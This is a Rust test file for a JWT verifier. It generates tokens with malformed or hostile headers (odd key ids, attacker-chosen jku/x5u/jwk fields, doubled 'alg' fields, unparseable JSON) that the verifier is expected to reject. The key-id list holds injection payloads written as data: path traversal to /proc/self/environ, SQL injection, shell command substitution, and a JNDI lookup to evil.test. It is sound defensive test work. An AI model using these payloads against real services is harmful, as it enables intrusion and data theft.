//! What the header says: key ids, keys it brings along, extensions, doubled fields, and what is no header.

use jsonwebtoken::{Algorithm as A, jwk::Jwk};
use serde_json::{Value, json};

use super::{Bad, bad, fixtures::*, signatures::raw};

/// Of no key, however they are read.
const KEY_IDS: [&str; 52] = [
    "",
    " ",
    "two",
    "three",
    "other",
    "One",
    "ONE",
    "one ",
    " one",
    "one\0",
    "one\0.pem",
    "\0",
    "one\n",
    "one\r\nx: y",
    "o\u{301}ne",
    "оne",
    "ｏｎｅ",
    "one/../one",
    "../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "http://127.0.0.1/jwks",
    "https://evil.test/key",
    "' OR '1'='1",
    "one' UNION SELECT 'x' --",
    "'; DROP TABLE sessions; --",
    "$(id)",
    "`id`",
    "| id",
    "; sleep 5",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%6fne",
    "one%00",
    "*",
    "o*",
    ".*",
    "^one$",
    "null",
    "undefined",
    "0",
    "-1",
    "true",
    "__proto__",
    "constructor",
    "<script>",
    "\u{202e}eno",
    "\u{feff}one",
    "one,two",
    "[\"one\"]",
];

/// Signed for real by the key `one` of the issuer `set`.
fn of_set(header: impl AsRef<[u8]>) -> String {
    raw(header.as_ref(), claims("set").to_string().as_bytes(), &KEYS.signer("ec"), A::ES256)
}

fn with_field(name: &str, value: Value) -> String {
    let mut header = json!({"alg": "ES256", "kid": "one", "typ": "JWT"});
    header[name] = value;
    of_set(header.to_string())
}

pub(super) fn good() -> Vec<String> {
    vec![of_set(r#"{"alg":"ES256","kid":"one"}"#), with_field("typ", json!("at+jwt")), with_field("x5t", json!("abc"))]
}

pub(super) fn all() -> Vec<Bad> {
    [key_ids(), fields(), doubled(), no_header()].into_iter().flatten().collect()
}

fn key_ids() -> Vec<Bad> {
    let mut all: Vec<Bad> = KEY_IDS.iter().map(|kid| bad("kid", format!("{kid:?}"), with_field("kid", json!(kid)))).collect();
    for value in [json!(0), json!(1), json!(-1), json!(1.5), json!(true), json!([]), json!(["one"]), json!({}), json!({"kid": "one"})] {
        all.push(bad("kid", value.to_string(), with_field("kid", value)));
    }
    for long in [256, 1024, 4000] {
        all.push(bad("kid", format!("{long} long"), with_field("kid", json!("k".repeat(long)))));
        all.push(bad("kid", format!("one, {long} times"), with_field("kid", json!("one".repeat(long / 3)))));
    }
    // Of a set with several keys, one is named: another signed, or none is.
    let of = |issuer: &str, key, alg: A, kid: &str| {
        let header = format!(r#"{{"alg":"{alg:?}"{kid}}}"#);
        raw(header.as_bytes(), claims(issuer).to_string().as_bytes(), &KEYS.signer(key), alg)
    };
    for (what, token) in [
        ("the id of the RSA key, signed by the other", of("multi", "ec", A::ES256, r#","kid":"two""#)),
        ("the id of the EC key, signed by the other", of("multi", "rsa", A::RS256, r#","kid":"one""#)),
        ("none where there are several", of("several", "ec", A::ES256, "")),
        ("null where there are several", of("several", "ec", A::ES256, r#","kid":null"#)),
        ("another issuer's", of("several", "ec", A::ES256, r#","kid":"two""#)),
        ("of a set for an algorithm that is not its issuer's", of("set", "rsa", A::RS256, r#","kid":"two""#)),
    ] {
        all.push(bad("kid", what, token));
    }
    all
}

fn fields() -> Vec<Bad> {
    let own = Jwk::from_encoding_key(&KEYS.signer("ec"), A::ES256).unwrap();
    let secret = json!({"kty": "oct", "k": "c2VjcmV0"});
    let mut all = Vec::new();
    for (name, values) in [
        ("jku", vec![json!("https://evil.test/jwks"), json!("https://set.test/jwks"), json!("http://127.0.0.1:1/"), json!(""), json!(5)]),
        ("x5u", vec![json!("https://evil.test/x.pem"), json!("file:///etc/passwd"), json!(""), json!([])]),
        ("jwk", vec![json!(own), secret.clone(), json!({}), json!("x"), json!([secret])]),
        ("x5c", vec![json!(["MIIB"]), json!([]), json!(""), json!([5])]),
        ("crit", vec![json!([]), json!(["exp"]), json!(["b64"]), json!(["x"]), json!("exp"), json!(null), json!(true), json!([5])]),
        ("b64", vec![json!(false), json!(true), json!(null), json!("false")]),
        ("zip", vec![json!("DEF"), json!("GZ"), json!(""), json!(null)]),
        ("enc", vec![json!("A256GCM"), json!("none"), json!(1)]),
        ("cty", vec![json!("JWT"), json!("application/json"), json!("")]),
        ("typ", vec![json!("JWE"), json!("logout+jwt"), json!("secevent+jwt"), json!("dpop+jwt"), json!("JOSE"), json!("application/jwt")]),
        ("typ", vec![json!(""), json!("JWT "), json!(5), json!([]), json!(["JWT"]), json!({}), json!(true)]),
    ] {
        for value in values {
            all.push(bad("header", format!("{name}: {value}"), with_field(name, value)));
        }
    }
    all
}

fn doubled() -> Vec<Bad> {
    let headers = [
        r#"{"alg":"ES256","alg":"ES256","kid":"one"}"#,
        r#"{"alg":"none","alg":"ES256","kid":"one"}"#,
        r#"{"alg":"ES256","alg":"none","kid":"one"}"#,
        r#"{"alg":"HS256","kid":"one","alg":"ES256"}"#,
        r#"{"\u0061lg":"none","alg":"ES256","kid":"one"}"#,
        r#"{"alg":"ES256","al\u0067":"ES256","kid":"one"}"#,
        r#"{"alg":"ES256","kid":"two","kid":"one"}"#,
        r#"{"alg":"ES256","kid":"one","kid":"one"}"#,
        r#"{"alg":"ES256","kid":null,"kid":"one"}"#,
        r#"{"alg":"ES256","kid":"one","typ":"JWE","typ":"JWT"}"#,
        r#"{"alg":"ES256","kid":"one","typ":"JWT","typ":"JWT"}"#,
        r#"{"alg":"ES256","kid":"one","x":1,"x":2}"#,
        r#"{"alg":"ES256","kid":"one","":1,"":1}"#,
    ];
    headers.iter().map(|header| bad("doubled field", *header, of_set(header))).collect()
}

fn no_header() -> Vec<Bad> {
    let deep = format!(r#"{{"alg":"ES256","kid":"one","x":{}{}}}"#, "[".repeat(1500), "]".repeat(1500));
    let headers: [&[u8]; 27] = [
        b"",
        b" ",
        b"null",
        b"true",
        b"5",
        b"[]",
        b"{}",
        b"\"ES256\"",
        br#"["ES256"]"#,
        br#"{"typ":"JWT","kid":"one"}"#,
        br#"{"Alg":"ES256","kid":"one"}"#,
        br#"{"ALG":"ES256","kid":"one"}"#,
        br#"{"alg ":"ES256","kid":"one"}"#,
        br#"{"alg":"ES256","kid":"one"}x"#,
        br#"{"alg":"ES256","kid":"one"}{}"#,
        br#"{"alg":"ES256","kid":"one","#,
        br#"{"alg":"ES256","kid":"one""#,
        br#"{"alg":"ES256","kid":"one",}"#,
        br#"{alg:"ES256","kid":"one"}"#,
        br#"{'alg':'ES256','kid':'one'}"#,
        br#"{"alg":"ES256","kid":"one"/**/}"#,
        br#"{"alg":"ES256","kid":"one","x":NaN}"#,
        br#"{"alg":"ES256","kid":"one\ud800"}"#,
        b"\xef\xbb\xbf{\"alg\":\"ES256\",\"kid\":\"one\"}",
        b"{\"alg\":\"ES256\",\"kid\":\"one\",\"x\":\"\xff\"}",
        b"{\"alg\":\"ES256\",\"kid\":\"one\",\"x\":\"\xc0\xae\"}",
        b"{\"alg\":\"ES256\0\",\"kid\":\"one\"}",
    ];
    let mut all: Vec<Bad> =
        headers.iter().map(|header| bad("no header", String::from_utf8_lossy(header).into_owned(), of_set(header))).collect();
    all.push(bad("no header", "1,500 deep", of_set(deep)));
    all
}
